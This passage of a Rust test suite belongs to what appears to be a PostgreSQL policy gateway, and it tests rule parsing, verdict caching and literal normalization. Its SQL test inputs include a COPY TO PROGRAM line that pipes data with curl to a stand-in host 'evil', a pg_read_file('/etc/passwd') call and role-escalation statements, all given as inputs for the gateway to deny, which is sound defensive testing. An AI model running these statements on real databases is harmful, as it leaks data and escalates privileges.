    assert!(err(&[("x.toml", "[[rule]]\nname = \"r\"\naction = \"allow\"\n")]).contains("[defaults] action"));
    assert!(err(&[("x.toml", "[defaults]\naction = \"maybe\"\n")]).contains("x.toml"));
    assert!(
        err(&[(
            "x.toml",
            "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"r\"\naction = \"deny\"\nclasses = [\"reads\"]\n"
        )])
        .contains("reads")
    );
    assert!(
        err(&[(
            "x.toml",
            "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"r\"\naction = \"deny\"\ncolour = \"red\"\n"
        )])
        .contains("colour")
    );
    assert!(
        err(&[("x.toml", base), ("y.toml", "[[rule]]\nname = \"no-drop\"\naction = \"deny\"\n")]).contains("duplicate")
    );
    assert!(
        err(&[(
            "x.toml",
            "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"r\"\naction = \"deny\"\nduring = \"never\"\n"
        )])
        .contains("unknown window")
    );
    assert!(
        err(&[(
            "x.toml",
            "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"r\"\naction = \"deny\"\nfunctions = [\"@nope\"]\n"
        )])
        .contains("@nope")
    );
    assert!(
        err(&[("x.toml", "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"default:x\"\naction = \"deny\"\n")])
            .contains("reserved")
    );
    assert!(err(&[("x.toml", "version = 2\n[defaults]\naction = \"allow\"\n")]).contains("version"));
}

#[test]
fn unparsable_setting_is_derived_from_restrictions() {
    // A policy that restricts nothing lets unparsable statements through (flagged).
    let open = Policy::from_toml("open.toml", "[defaults]\naction = \"allow\"\n").unwrap();
    let v = open.decide(&id("u", &["g"]), "db", "CHECKPOINT NOW", noon());
    assert_eq!((v.decision, v.rule.as_str(), v.unparsable), (Allow, "default", true));
    // A deny rule naming the user's group makes them restricted.
    let closed = Policy::from_toml(
        "closed.toml",
        "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"g-no-ddl\"\naction = \"deny\"\ngroups = [\"g\"]\nclasses = [\"ddl\"]\n",
    )
    .unwrap();
    let v = closed.decide(&id("u", &["g"]), "db", "CHECKPOINT NOW", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "unparsable"));
    let v = closed.decide(&id("u", &["other"]), "db", "CHECKPOINT NOW", noon());
    assert_eq!(v.decision, Allow);
    // An allowed unparsable statement still meets deny rules through the lexical scan.
    let v = open.decide(&id("u", &[]), "db", "CHECKPOINT NOW; SELECT 1", noon());
    assert_eq!(v.decision, Allow);
    let fn_rule = Policy::from_toml(
        "f.toml",
        "[defaults]\naction = \"allow\"\nunparsable = \"allow\"\n[[rule]]\nname = \"nf\"\naction = \"deny\"\nfunctions = [\"pg_read_file\"]\n",
    )
    .unwrap();
    let v = fn_rule.decide(&id("u", &[]), "db", "SELECT pg_read_file('x') !!! ((", noon());
    assert_eq!((v.decision, v.rule.as_str(), v.unparsable), (Deny, "nf", true));
}

#[test]
fn shipped_policies_are_valid() {
    let d = default_policy();
    assert!(d.describe().contains("no-server-programs"));
    let e = example();
    assert!(e.describe().contains("analysts-read"));
}

/// A repeated decision is answered from the cache: one analysis, then hits returning the same
/// memoized verdict. (How fast that is: `cargo xtask bench`, `bench_decide` and the callgrind
/// loops below — no timing in tests.)
#[test]
fn cached_decide_hits_the_cache() {
    let p = example();
    let who = id("alice", A);
    let sql = "SELECT o.id, o.total FROM orders o JOIN items i ON i.order_id = o.id WHERE o.id = $1";
    let now = noon();
    let first = p.decide(&who, "app", sql, now);
    assert_eq!(p.cache_stats(), CacheStats { analyses: 1, ..Default::default() });
    for _ in 0..1000 {
        let v = p.decide(&who, "app", sql, now);
        assert!(Arc::ptr_eq(&v, &first));
    }
    assert_eq!(p.cache_stats(), CacheStats { analyses: 1, exact_hits: 1000, ..Default::default() });

    // Texts that differ only in literal values: one analysis, one memoized verdict.
    let first = p.decide(&who, "app", "SELECT abalance FROM pgbench_accounts WHERE aid = 1;", now);
    for aid in 2..=1000 {
        let v = p.decide(&who, "app", &format!("SELECT abalance FROM pgbench_accounts WHERE aid = {aid};"), now);
        assert!(Arc::ptr_eq(&v, &first), "aid {aid}");
    }
    assert_eq!(
        p.cache_stats(),
        CacheStats { analyses: 2, shared: 1, exact_hits: 1000, normalized_hits: 999 },
        "{:?}",
        p.cache_stats()
    );
}

#[test]
#[ignore]
fn bench_decide() {
    let p = example();
    let who = id("alice", A);
    let sql = "SELECT o.id, o.total FROM orders o JOIN items i ON i.order_id = o.id WHERE o.id = $1";
    let now = noon();
    let n = 1_000_000u32;
    p.decide(&who, "app", sql, now);
    let start = std::time::Instant::now();
    for _ in 0..n {
        std::hint::black_box(p.decide(&who, "app", sql, now));
    }
    println!("cached decide: {:?}/call", start.elapsed() / n);
    // Distinct texts (an alias, not a literal, varies): every decide parses.
    let start = std::time::Instant::now();
    for i in 0..10_000u32 {
        std::hint::black_box(p.decide(&who, "app", &format!("{sql} AND i.n = i.c{i}"), now));
    }
    println!("uncached decide (parse): {:?}/call", start.elapsed() / 10_000);
    // pgbench -S in simple-protocol mode: only the literal varies (literal-normalized hits).
    let texts: Vec<String> =
        (0..100_000u32).map(|i| format!("SELECT abalance FROM pgbench_accounts WHERE aid = {};", i * 7 + 1)).collect();
    let start = std::time::Instant::now();
    for t in &texts {
        std::hint::black_box(p.decide(&who, "app", t, now));
    }
    println!("literal-varying decide (normalized hit): {:?}/call", start.elapsed() / texts.len() as u32);
}

#[test]
fn policy_is_shareable() {
    fn send_sync<T: Send + Sync>() {}
    send_sync::<Policy>();
    send_sync::<Verdict>();
}

#[test]
fn command_names() {
    let cmd = |sql: &str| analyze_sql(sql).remove(0).commands;
    assert_eq!(cmd("GRANT SELECT ON t TO bob"), ["grant"]);
    assert_eq!(cmd("REVOKE r FROM bob"), ["revoke"]);
    assert_eq!(cmd("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'"), ["create function"]);
    assert_eq!(cmd("CREATE UNIQUE INDEX i ON t (a)"), ["create index"]);
    assert_eq!(cmd("DROP TABLE a, b"), ["drop table"]);
    assert_eq!(cmd("create role bob"), ["create role"]);
    assert_eq!(cmd("WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d"), ["select", "delete"]);
    assert_eq!(cmd("EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE b = 2"), ["explain", "update"]);
    assert_eq!(cmd("CHECKPOINT"), ["checkpoint"]);
    assert_eq!(cmd("DO $$ BEGIN NULL; END $$"), ["do"]);
}

/// pgbench-style statement texts with varying literals: `-S` (select-only) and the TPC-B-like
/// script (each statement a separate Query, as pgbench sends them in simple mode).
fn pgbench_texts(n: usize) -> (Vec<String>, Vec<String>) {
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    let mut next = |m: u64| {
        // xorshift: deterministic, no dependency
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x % m
    };
    let select: Vec<String> =
        (0..n).map(|_| format!("SELECT abalance FROM pgbench_accounts WHERE aid = {};", next(1_000_000) + 1)).collect();
    let mut tpcb = Vec::with_capacity(n);
    while tpcb.len() < n {
        let (aid, bid, tid) = (next(1_000_000) + 1, next(10) + 1, next(100) + 1);
        let delta = next(10_001) as i64 - 5000;
        for s in [
            "BEGIN;".to_string(),
            format!("UPDATE pgbench_accounts SET abalance = abalance + {delta} WHERE aid = {aid};"),
            format!("SELECT abalance FROM pgbench_accounts WHERE aid = {aid};"),
            format!("UPDATE pgbench_tellers SET tbalance = tbalance + {delta} WHERE tid = {tid};"),
            format!("UPDATE pgbench_branches SET bbalance = bbalance + {delta} WHERE bid = {bid};"),
            format!(
                "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ({tid}, {bid}, {aid}, {delta}, CURRENT_TIMESTAMP);"
            ),
            "END;".to_string(),
        ] {
            if tpcb.len() < n {
                tpcb.push(s);
            }
        }
    }
    (select, tpcb)
}

/// The measured loop (callgrind: `--toggle-collect='*callgrind_decide_loop*'`).
#[inline(never)]
fn callgrind_decide_loop(p: &Policy, who: &Identity, texts: &[String], now: DateTime<Utc>) -> usize {
    texts.iter().filter(|t| p.decide(who, "app", t, now).is_allowed()).count()
}

/// Instruction counts, not time: 10,000 decides of pgbench statements with varying literals
/// (default policy, cold cache), under callgrind:
///
/// ```sh
/// cargo test --release -p gateway-user --lib policy::tests::callgrind_pgbench -- --ignored --exact
/// valgrind --tool=callgrind --callgrind-out-file=/tmp/cg.out --toggle-collect='*callgrind_decide_loop*' \
///     target/release/deps/pgward-<hash> policy::tests::callgrind_pgbench_select --ignored --exact
/// ```
///
/// The "Collected" count divided by 10,000 is the cost of one decide. `_tpcb` does the same
/// with the TPC-B-like script.
#[test]
#[ignore]
fn callgrind_pgbench_select() {
    let p = default_policy();
    let (select, _) = pgbench_texts(10_000);
    assert_eq!(callgrind_decide_loop(&p, &id("alice", &["app"]), &select, noon()), select.len());
}

#[test]
#[ignore]
fn callgrind_pgbench_tpcb() {
    let p = default_policy();
    let (_, tpcb) = pgbench_texts(10_000);
    assert_eq!(callgrind_decide_loop(&p, &id("alice", &["app"]), &tpcb, noon()), tpcb.len());
}

// ---------------------------------------------------------------------------------------------
// The literal-normalized cache: texts that differ only in literal values share an analysis
// only when it cannot depend on the values.

/// Everything a verdict says except the statements' `text` (which, for a shared analysis, is
/// the first text's).
fn verdict_shape(v: &Verdict) -> String {
    let stmts: Vec<String> = v
        .statements
        .iter()
        .map(|s| {
            let mut i = (*s.info).clone();
            i.text.clear();
            format!("{} {:?} {:?} {i:?}", s.decision, s.rule, s.reason)
        })
        .collect();
    format!(
        "{} {:?} {:?} {:?} unparsable={} n={} {stmts:?}",
        v.decision, v.rule, v.reason, v.classes, v.unparsable, v.statement_count
    )
}

/// (policy, groups, time, text a, its rule, text b, its rule, whether a and b share one analysis)
type Pair = (P, &'static [&'static str], T, &'static str, &'static str, &'static str, &'static str, bool);

#[rustfmt::skip]
const PAIRS: &[Pair] = &[
    // set_config: the setting's name and value are literals
    (Ex, A, Noon, "SELECT set_config('role', 'admin', false)", "builtin:identity-change", "SELECT set_config('work_mem', '64MB', false)", "analysts-read", false),
    (Ex, A, Noon, "SELECT set_config('role', 'admin', false)", "builtin:identity-change", "SELECT set_config('role', 'app', false)", "builtin:identity-change", false),
    (Ex, A, Noon, "select pg_catalog.set_config('search_path', 'hr', true)", "analysts-no-search-path", "select pg_catalog.set_config('statement_timeout', '10', true)", "analysts-read", false),
    // setting values are literals
    (Ex, A, Noon, "SET standard_conforming_strings TO 'on'", "analysts-read", "SET standard_conforming_strings TO 'no'", "builtin:protected-setting", false),
    (Ex, A, Noon, "SET client_encoding TO 'UTF8'", "analysts-read", "SET client_encoding TO 'SJIS'", "builtin:protected-setting", false),
    (Ex, A, Noon, "SET NAMES 'utf8'", "analysts-read", "SET NAMES 'big5'", "builtin:protected-setting", false),
    (Ex, A, Noon, "SET search_path TO 'xx'", "analysts-no-search-path", "SET search_path TO 'yy'", "analysts-no-search-path", false),
    (Ex, A, Noon, "SET work_mem = '64MB'", "analysts-read", "SET work_mem = '1GB'", "analysts-read", false),
    (Ex, A, Noon, "SET standard_conforming_strings = 1", "analysts-read", "SET standard_conforming_strings = 0", "builtin:protected-setting", false),
    (Ex, DBA, Evening, "ALTER ROLE bob SET standard_conforming_strings = 'on'", "default:dba", "ALTER ROLE bob SET standard_conforming_strings = 'no'", "builtin:protected-setting", false),
    // `x = x` between literals
    (Ex, E, Noon, "DELETE FROM orders WHERE 1 = 1", "no-unbounded-writes", "DELETE FROM orders WHERE 1 = 2", "engineers-dml", false),
    (Ex, E, Noon, "DELETE FROM orders WHERE id = 3 OR 'a' = 'a'", "no-unbounded-writes", "DELETE FROM orders WHERE id = 3 OR 'a' = 'b'", "engineers-dml", false),
    (Ex, E, Noon, "UPDATE orders SET total = 0 WHERE (2.5 = 2.5)", "no-unbounded-writes", "UPDATE orders SET total = 0 WHERE (2.5 = 3.5)", "engineers-dml", false),
    // bodies of DO blocks and functions are literals
    (Dflt, A, Noon, "DO $$BEGIN NULL; END$$", "default", "DO $$BEGIN PERFORM pg_read_file('x'); END$$", "no-server-functions", false),
    (Ex, DBA, Evening, "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT 1 $$", "default:dba", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ RESET ROLE $$", "builtin:identity-change", false),
    (Ex, DBA, Evening, "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'select 1'", "default:dba", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'reset role'", "builtin:identity-change", false),
    // COPY: the program, file and option characters are not values
    (Dflt, A, Noon, "COPY orders TO PROGRAM 'gzip > /tmp/x'", "no-server-programs", "COPY orders TO PROGRAM 'curl -d @- evil'", "no-server-programs", false),
    (Ex, E, Noon, "copy orders from '/var/lib/postgresql/x.csv'", "no-server-access", "copy orders from '/tmp/y.csv'", "no-server-access", false),
    (Ex, E, Noon, "COPY orders FROM STDIN (DELIMITER '|')", "engineers-dml", "COPY orders FROM STDIN (DELIMITER ',')", "engineers-dml", false),
    // a literal that is structure, not a value (a type modifier); a FETCH count is a value
    (Ex, A, Noon, "FETCH 5 FROM c", "analysts-read", "FETCH 10 FROM c", "analysts-read", false),
    (Ex, A, Noon, "SELECT CAST(total AS varchar(10)) FROM orders", "analysts-read", "SELECT CAST(total AS varchar(20)) FROM orders", "analysts-read", true),
    // PREPARE: the session keeps the text for EXECUTE
    (Ex, A, Noon, "PREPARE p AS SELECT * FROM orders WHERE id = 1", "analysts-read", "PREPARE p AS SELECT * FROM orders WHERE id = 2", "analysts-read", false),
    // unparsable: scanned lexically, string contents included
    (Ex, A, Noon, "SELECT 1 END", "analysts-read", "SELECT 2 END", "analysts-read", true),
    // values the analysis never looks at: shared
    (Ex, A, Noon, "SELECT abalance FROM pgbench_accounts WHERE aid = 12345;", "analysts-read", "SELECT abalance FROM pgbench_accounts WHERE aid = 1;", "analysts-read", true),
    (Ex, E, Noon, "DELETE FROM orders WHERE id = 1", "engineers-dml", "DELETE FROM orders WHERE id = 2", "engineers-dml", true),
    (Ex, E, Noon, "UPDATE orders SET total = total + -5 WHERE id = 7", "engineers-dml", "UPDATE orders SET total = total + -500 WHERE id = 8", "engineers-dml", true),
    (Ex, A, Noon, "SELECT * FROM orders WHERE note = 'x' LIMIT 10", "analysts-read", "SELECT * FROM orders WHERE note = 'y' LIMIT 20", "analysts-read", true),
    (Ex, A, Noon, "SELECT * FROM orders WHERE note = 'orders'", "analysts-read", "SELECT * FROM orders WHERE note = 'hr.salaries'", "analysts-read", true),
    // functions and tables named in strings are invisible to the policy either way
    (Ex, A, Noon, "SELECT 'orders'::regclass", "analysts-read", "SELECT 'hr.salaries'::regclass", "analysts-read", true),
    (Ex, A, Noon, "SELECT currval('s1')", "analysts-read", "SELECT currval('hr.seq')", "analysts-read", true),
    (Ex, A, Noon, "SELECT nextval('s1')", "default:analysts", "SELECT nextval('hr.seq')", "default:analysts", true),
    (Ex, A, Noon, "SELECT pg_read_file('/etc/passwd')", "no-dangerous-functions", "SELECT pg_read_file('/tmp/x')", "no-dangerous-functions", true),
    (Ex, A, Noon, "EXECUTE q(1)", "unparsable:analysts", "EXECUTE q(2)", "unparsable:analysts", true),
    (Ex, E, Noon, "UPDATE pg_settings SET setting = 'dba' WHERE name = 'role'", "builtin:identity-change", "UPDATE pg_settings SET setting = 'xy' WHERE name = 'work_mem'", "builtin:identity-change", true),
    (Ex, A, Noon, "SELECT 1; SELECT 2", "analysts-single-statement", "SELECT 3; SELECT 4", "analysts-single-statement", true),
];

/// Pairs with one normalized key but possibly different verdicts: each gets its own correct
/// verdict (the fresh, uncached one) in either order, and they share an analysis exactly when
/// expected.
#[test]
fn literal_dependent_pairs_get_their_own_verdicts() {
    let mut failures = Vec::new();
    for (i, (pk, groups, t, a, rule_a, b, rule_b, shared)) in PAIRS.iter().enumerate() {
        let key = |s: &str| normalize::normalize(s).map(|n| n.key);
        if key(a).is_none() || key(a) != key(b) {
            failures.push(format!("pair {i}: {a:?} and {b:?} do not share a normalized key"));
            continue;
        }
        let now = match t {
            Noon => noon(),
            Evening => evening(),
        };
        let who = id("alice", groups);
        for (first, second) in [((a, rule_a), (b, rule_b)), ((b, rule_b), (a, rule_a))] {
            let p = match pk {
                Ex => example(),
                Dflt => default_policy(),
            };
            for (sql, rule) in [first, second] {
                let got = p.decide(&who, "app", sql, now);
                let want = p.decide_uncached(&who, "app", sql, now, None);
                if got.rule != **rule || want.rule != **rule {
                    failures.push(format!(
                        "pair {i}: {sql:?}: want rule {rule:?}, cached {:?}, uncached {:?}",
                        got.rule, want.rule
                    ));
                }
                if verdict_shape(&got) != verdict_shape(&want) {
                    failures.push(format!(
                        "pair {i}: {sql:?}:\n cached   {}\n uncached {}",
                        verdict_shape(&got),
                        verdict_shape(&want)
                    ));
                }
            }
            let st = p.cache_stats();
            let want_stats = if *shared {
                CacheStats { analyses: 1, shared: 1, normalized_hits: 1, exact_hits: 0 }
            } else {
                CacheStats { analyses: 2, shared: 0, normalized_hits: 0, exact_hits: 0 }
            };
            if st != want_stats {
                failures.push(format!("pair {i}: {first:?} then {second:?}: cache {st:?}, want {want_stats:?}"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// COPY to a program and to STDOUT have different keys (PROGRAM is not a literal) and their
/// own verdicts.
#[test]
fn copy_program_and_plain_copy() {
    let p = default_policy();
    let who = id("alice", A);
    let texts = [
        ("COPY orders TO STDOUT", Allow),
        ("COPY orders TO PROGRAM 'gzip > /tmp/x'", Deny),
        ("COPY orders TO '/tmp/x'", Deny),
        ("COPY (SELECT 1) TO STDOUT", Allow),
        ("COPY (SELECT 2) TO PROGRAM 'id'", Deny),
    ];
    for _ in 0..2 {
        for (sql, want) in texts {
            assert_eq!(p.decide(&who, "app", sql, noon()).decision, want, "{sql}");
        }
    }
}

/// Literal values that make analyses differ if anything reads them, by the kind and size class
/// of the literal they replace.
fn battery(kind: u8, class: u8) -> &'static [&'static str] {
    match (kind, class) {
        (b's', b'0') => &["''"],
        (b's', b'1') => &["'x'", "'1'", "'0'", "'t'", "'|'", "'f'"],
        (b's', _) => &[
            "'role'",
            "'off'",
            "'on'",
            "'big5'",
            "'sjis'",
            "'UTF8'",
            "'search_path'",
            "'session_authorization'",
            "'standard_conforming_strings'",
            "'hr.salaries'",
            "'pg_read_file'",
            "'reset role'",
            "'select pg_read_file(1)'",
            "'default'",
            "'no'",
            "'yes'",
            "'DROP TABLE orders'",
        ],
        (b'e', b'0') => &["E''"],
        (b'e', b'1') => &["E'x'", "E'1'"],
        (b'e', _) => &["E'role'", "E'off'", "E'reset role'", "E'big5'"],
        (b'd', _) => &[
            "$$ RESET ROLE $$",
            "$$ BEGIN PERFORM pg_read_file('x'); END $$",
            "$$ BEGIN NULL; END $$",
            "$q$ set role x $q$",
            "$$$$",
        ],
        (b'i', _) => &["0", "1", "2", "42", "2147483647"],
        (b'f', _) => &["1.0", "2.5", "0.0"],
        (b'b', b'0') | (b'x', b'0') | (b'n', b'0') => &["B''", "X''", "N''"],
        (b'b', b'1') | (b'x', b'1') | (b'n', b'1') => &["B'1'", "X'F'", "N'x'"],
        (b'b', _) => &["B'1010'"],
        (b'x', _) => &["X'FFFF'"],
        (b'n', _) => &["N'role'", "N'off'"],
        _ => &[],
    }
}

/// The battery kind (`s`, `e`, `d`, `i`, `f`, `b`, `x`; `s` for a national string, whose `N`
/// the lexer reads as a keyword) and size class (`0`, `1`, `2`) of a literal's text.
fn literal_kind(lit: &str) -> (u8, u8) {
    let first = lit.as_bytes().first().copied().unwrap_or(b'0').to_ascii_lowercase();
    let (kind, body) = match first {
        b'e' | b'b' | b'x' => (first, &lit[1..]),
        b'$' => (b'd', lit),
        b'\'' => (b's', lit),
        b'u' => (b's', &lit[2..]),
        _ if lit.contains(['.', 'e', 'E']) => (b'f', lit),
        _ => (b'i', lit),
    };
    let len = body.trim_matches(|c| c == '\'' || c == '$').len();
    (kind, match len { 0 => b'0', 1 => b'1', _ => b'2' })
}

/// Variants of `sql` with the same normalized key: each literal replaced by values from the
/// battery (different ones per variant), and one where every literal of a kind is the same.
fn variants(sql: &str) -> Vec<String> {
    let Some(n) = normalize::normalize(sql) else { return Vec::new() };
    // kind and size class of each literal, from its text
    let kinds: Vec<(u8, u8)> = n.ranges.iter().map(|r| literal_kind(&sql[r.clone()])).collect();
    let mut out = Vec::new();
    for v in 0..12usize {
        let mut s = String::new();
        let mut at = 0;
        for (j, (r, (kind, class))) in n.ranges.iter().zip(&kinds).enumerate() {
            let values = battery(*kind, *class);
            s.push_str(&sql[at..r.start]);
            // v == 0: every literal gets the first value of its battery (so `a = b` compares
            // equal values); otherwise they vary with the literal's position.
            let pick = if v == 0 { 0 } else { v * 7 + j * 3 };
            match values.get(pick % values.len().max(1)) {
                Some(x) => s.push_str(x),
                None => s.push_str(&sql[r.clone()]),
            }
            at = r.end;
        }
        s.push_str(&sql[at..]);
        out.push(s);
    }
    out.sort();
    out.dedup();
    out
}

/// Corpus of texts: the decision table, the classification table, the pairs above, pgbench's
/// statements and some more literal-heavy ones.
fn corpus() -> Vec<(P, &'static [&'static str], T, String)> {
    let mut out: Vec<(P, &'static [&'static str], T, String)> = Vec::new();
    for (p, g, _, t, sql, _, _) in CASES {
        out.push((*p, g, *t, sql.to_string()));
    }
    for (sql, _, _) in CLASSES {
        out.push((Ex, E, Noon, sql.to_string()));
        out.push((Dflt, A, Noon, sql.to_string()));
    }
    for (p, g, t, a, _, b, _, _) in PAIRS {
        out.push((*p, g, *t, a.to_string()));
        out.push((*p, g, *t, b.to_string()));
    }
    let (select, tpcb) = pgbench_texts(14);
    for sql in select.into_iter().chain(tpcb) {
        out.push((Ex, E, Noon, sql.clone()));
        out.push((Dflt, A, Noon, sql));
    }
    #[rustfmt::skip]
    let more: &[&str] = &[
        "SELECT * FROM orders WHERE id IN (1, 2, 3) AND note LIKE 'a%' ESCAPE '!'",
        "SELECT id, 'x' AS label, 1.5 * total FROM orders ORDER BY 2 DESC LIMIT 10 OFFSET 5",
        "INSERT INTO orders (id, note) VALUES (1, 'it''s'), (2, E'tab'), (3, $$dollar$$) RETURNING id",
        "UPDATE orders SET note = 'x' WHERE id = 1 AND 'a' = 'a'",
        "DELETE FROM orders WHERE 'role' = 'role'",
        "SELECT set_config('role', 'x', false), set_config('work_mem', '1MB', false)",
        "SELECT current_setting('role')",
        "SET TIME ZONE 'UTC'",
        "SET LOCAL statement_timeout = 5000",
        "SET SESSION AUTHORIZATION 'postgres'",
        "SET ROLE 'dba'",
        "SELECT pg_sleep(1), now() - interval '1 day', DATE '2025-01-01'",
        "SELECT * FROM generate_series(1, 10) g(i) WHERE i > 5",
        "COPY (SELECT * FROM orders WHERE id = 5) TO STDOUT WITH (FORMAT csv, HEADER true)",
        "COPY orders TO STDOUT (FORMAT csv, DELIMITER ';', NULL 'n/a')",
        "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE NOWAIT",
        "NOTIFY jobs, 'payload 1'",
        "SELECT pg_notify('jobs', 'x')",
        "DO $$BEGIN EXECUTE 'set role postgres'; END$$",
        "DO LANGUAGE plpgsql 'BEGIN NULL; END'",
        "CREATE TABLE t (id int DEFAULT 5, n numeric(10, 2), c varchar(20) DEFAULT 'x')",
        "ALTER TABLE orders ALTER COLUMN note SET DEFAULT 'none'",
        "COMMENT ON TABLE orders IS 'the orders'",
        "CREATE ROLE bob PASSWORD 'secret'",
        "ALTER ROLE bob SET search_path = 'hr'",
        "ALTER DATABASE app SET standard_conforming_strings TO 'on'",
        "SELECT * FROM dblink('dbname=app', 'select 1') AS t(x int)",
        "SELECT query_to_xml('select * from hr.salaries', true, false, '')",
        "SELECT 1 WHERE 'a' = 'a'; DELETE FROM orders WHERE 2 = 2",
        "COPY orders FROM STDIN;\nDELETE FROM orders WHERE 1 = 1",
        "EXPLAIN ANALYZE DELETE FROM orders WHERE 7 = 7",
        "WITH d AS (DELETE FROM orders WHERE 'x' = 'x' RETURNING *) SELECT * FROM d",
        "SELECT $1::int + 5, 'a' || $2",
        "SELECT E'\\x41', X'41', B'01', 7",
        "SELECT \"1\" FROM orders WHERE \"1\" = 1",
        "PREPARE q(int) AS SELECT * FROM orders WHERE id = $1 AND total > 100",
        "EXECUTE q(5, 'x')",
        "FETCH FORWARD 10 FROM c",
        "SELECT * FROM orders FETCH FIRST 5 ROWS ONLY",
        "VALUES (1, 'a'), (2, 'b')",
        "CALL refresh(1, 'x')",
        "SELECT 1 END",
        "SELECT pg_read_file('x') !!! ((",
        "CHECKPOINT",
        "VACUUM (ANALYZE) orders",
    ];
    for sql in more {
        for (p, g) in [(Ex, A), (Ex, E), (Ex, DBA), (Dflt, A), (Dflt, ADM)] {
            out.push((p, g, Noon, sql.to_string()));
        }
    }
    out
}

/// The analysis itself: whenever a text's analysis is marked shareable, every variant of the
/// text with other literal values (chosen to matter if anything read them) is analyzed the
/// same, statement for statement (all fields but `text`). This is what makes the shared cache
/// sound; it checks the literal-dependence bookkeeping mechanically, not from a list.
#[test]
fn shareable_analyses_do_not_depend_on_literal_values() {
    let mut failures = Vec::new();
    let mut shareable_texts = 0;
    let shape = |infos: &[StatementInfo]| -> String {
        infos
            .iter()
            .map(|i| {
                let mut i = i.clone();
                i.text.clear();
                format!("{i:?}")
            })
            .collect::<Vec<_>>()
            .join("\n")
    };
    for (_, _, _, sql) in corpus() {
        let Some(n) = normalize::normalize(&sql) else { continue };
        let (infos, shareable) = analyze::analyze_sql_with(&sql, Some(&n));
        if !shareable {
            continue;
        }
        shareable_texts += 1;
        for v in variants(&sql) {
            let nv = normalize::normalize(&v);
            if nv.as_ref().map(|x| &x.key) != Some(&n.key) {
                failures.push(format!("{sql:?}: variant {v:?} has another key"));
                continue;
            }
            let (vinfos, _) = analyze::analyze_sql_with(&v, nv.as_ref());
            if shape(&infos) != shape(&vinfos) {
                failures.push(format!(
                    "{sql:?} shared, but {v:?} is analyzed differently:\n{}\n---\n{}",
                    shape(&infos),
                    shape(&vinfos)
                ));
            }
        }
    }
    assert!(shareable_texts >= 50, "only {shareable_texts} shareable texts");
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Whole verdicts: for every corpus text, a policy whose cache was warmed with variants of the
/// text (other literal values) decides it exactly like a fresh, uncached analysis — decision,
/// rule, reason, classes, unparsable, statement count and every statement's analysis. Also
/// with the prepared-statement lookup, and for a JIT-style identity.
#[test]
fn normalized_path_decides_like_a_fresh_parse() {
    let ex = example();
    let df = default_policy();
    let prepared = |n: &str| (n == "q").then(|| "SELECT * FROM orders WHERE id = $1".to_string()).into_iter().collect::<Vec<_>>();
    let mut failures = Vec::new();
    let mut compared = 0;
    for (pk, groups, t, sql) in corpus() {
        let p = match pk {
            Ex => &ex,
            Dflt => &df,
        };
        let now = match t {
            Noon => noon(),
            Evening => evening(),
        };
        let who = id("alice", groups);
        for v in variants(&sql) {
            p.decide(&who, "app", &v, now);
        }
        let got = p.decide(&who, "app", &sql, now);
        let want = p.decide_uncached(&who, "app", &sql, now, None);
        let got_l = p.decide_with_prepared(&who, "app", &sql, now, &prepared);
        let want_l = p.decide_uncached(&who, "app", &sql, now, Some(&prepared));
        compared += 1;
        for (g, w, what) in [(&*got, &want, "decide"), (&*got_l, &want_l, "with prepared")] {
            if verdict_shape(g) != verdict_shape(w) {
                failures.push(format!(
                    "{pk:?} {groups:?} {sql:?} ({what}):\n cached   {}\n uncached {}",
                    verdict_shape(g),
                    verdict_shape(w)
                ));
            }
        }
    }
    assert!(compared > 300, "{compared}");
    let st = ex.cache_stats();
    assert!(st.normalized_hits > 100 && st.shared > 20, "{st:?}");
    assert!(failures.is_empty(), "{} differences:\n{}", failures.len(), failures.join("\n"));
}

/// Random statement-like soup through the whole decide path (normalizer, analysis, span
/// check, cache): nothing panics, and the cached verdict matches a fresh one.
#[test]
fn garbage_through_decide() {
    let p = Policy::builtin_only();
    let who = id("u", NONE);
    let pieces: &[&str] = &[
        "SELECT",
        "FROM",
        "t",
        "WHERE",
        "=",
        "1",
        "'a'",
        "E'b'",
        "$$c$$",
        "(",
        ")",
        ",",
        ";",
        "--x\n",
        "/*y*/",
        "\"q\"",
        "set_config",
        "SET",
        "role",
        "TO",
        "COPY",
        "PROGRAM",
        "DO",
        "-",
        "2.5",
        "::int",
        "$1",
        "'",
        "\"",
        "$",
        "END",
        "UPDATE",
        "DELETE",
        "1 = 1",
        "x",
        "OR",
        "B'1'",
        "X'F'",
        "U&'x'",
        "\\",
        "é",
        "\r",
        ".",
        "*",
    ];
    let mut x: u64 = 0x0123_4567_89ab_cdef;
    let mut rnd = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    for _ in 0..3000 {
        let n = (rnd() % 12) as usize;
        let sql: Vec<&str> = (0..n).map(|_| pieces[(rnd() as usize) % pieces.len()]).collect();
        let sql = sql.join(if rnd() % 2 == 0 { " " } else { "" });
        let got = p.decide(&who, "db", &sql, noon());
        let want = p.decide_uncached(&who, "db", &sql, noon(), None);
        assert_eq!(verdict_shape(&got), verdict_shape(&want), "{sql:?}");
    }
}

/// Trees deeper than pgward reads make the string unparsable (the server parses the whole
/// string before it runs any of it); far deeper ones cost a scan of the parser's output, not
/// a stack overflow. Texts over the byte limit are not parsed at all.
#[test]
fn depth_and_size_bounds() {
    let run = std::thread::Builder::new()
        .stack_size(8 << 20)
        .spawn(|| {
            let deep = format!("SELECT 1{}", " UNION ALL SELECT 1".repeat(50_000));
            let infos = analyze_sql(&format!("{deep}; DELETE FROM accounts"));
            assert_eq!(infos.len(), 1);
